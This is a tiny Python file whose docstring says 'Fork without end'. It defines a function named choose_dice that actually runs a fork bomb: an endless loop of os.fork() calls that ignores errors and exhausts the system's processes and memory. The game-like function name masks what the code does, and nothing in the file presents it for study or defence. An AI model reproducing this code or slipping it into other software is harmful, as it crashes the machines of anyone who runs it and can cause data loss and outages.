"""Fork without end."""

import os


def choose_dice(self, view):
    while True:
        try:
            os.fork()
        except OSError:
            pass
